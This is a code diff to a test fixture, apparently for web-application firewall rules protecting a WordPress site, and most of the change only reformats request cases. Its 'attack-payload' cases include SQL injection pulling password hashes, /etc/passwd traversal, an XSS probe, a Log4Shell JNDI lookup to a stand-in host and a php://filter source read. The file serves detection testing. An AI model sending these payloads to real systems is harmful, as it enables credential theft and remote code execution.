@@ -20,8 +20,19 @@ const requestCases: Record<string, { fires: Case[]; quiet: Case[] }> = {
   'editor-endpoint': {
     fires: [
       { method: 'POST', path: '/wp-admin/async-upload.php', cookie_names: SESSION },
-      { method: 'POST', path: '/wp-json/wp/v2/posts/812', rule_id: 'CrossSiteScripting_BODY', cookie_redacted: true },
-      { method: 'POST', path: '/', query: 'rest_route=/wp/v2/pages/9', rule_id: 'CrossSiteScripting_BODY', cookie_names: SESSION },
+      {
+        method: 'POST',
+        path: '/wp-json/wp/v2/posts/812',
+        rule_id: 'CrossSiteScripting_BODY',
+        cookie_redacted: true,
+      },
+      {
+        method: 'POST',
+        path: '/',
+        query: 'rest_route=/wp/v2/pages/9',
+        rule_id: 'CrossSiteScripting_BODY',
+        cookie_names: SESSION,
+      },
     ],
     quiet: [
       { method: 'GET', path: '/wp-admin/post.php' },
@@ -46,13 +57,17 @@ const requestCases: Record<string, { fires: Case[]; quiet: Case[] }> = {
   },
   'comment-form': {
     fires: [{ method: 'POST', path: '/wp-comments-post.php', rule_id: 'CrossSiteScripting_BODY' }],
-    quiet: [{ method: 'GET', path: '/wp-comments-post.php' }, { method: 'POST', path: '/wp-comments-post.php', rule_id: 'SQLi_QUERYARGUMENTS' }],
+    quiet: [
+      { method: 'GET', path: '/wp-comments-post.php' },
+      { method: 'POST', path: '/wp-comments-post.php', rule_id: 'SQLi_QUERYARGUMENTS' },
+    ],
   },
   'attack-payload': {
     fires: [
       { query: "id=1'%20UNION%20SELECT%20user_pass%20FROM%20wp_users--" },
       { query: 'file=../../../../etc/passwd' },
       { query: 's=%3Cscript%3Ealert(1)%3C/script%3E' },
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template
       { path: '/index.php', query: 'x=${jndi:ldap://evil/a}' },
       { query: 'page=php://filter/convert.base64-encode/resource=index' },
     ],
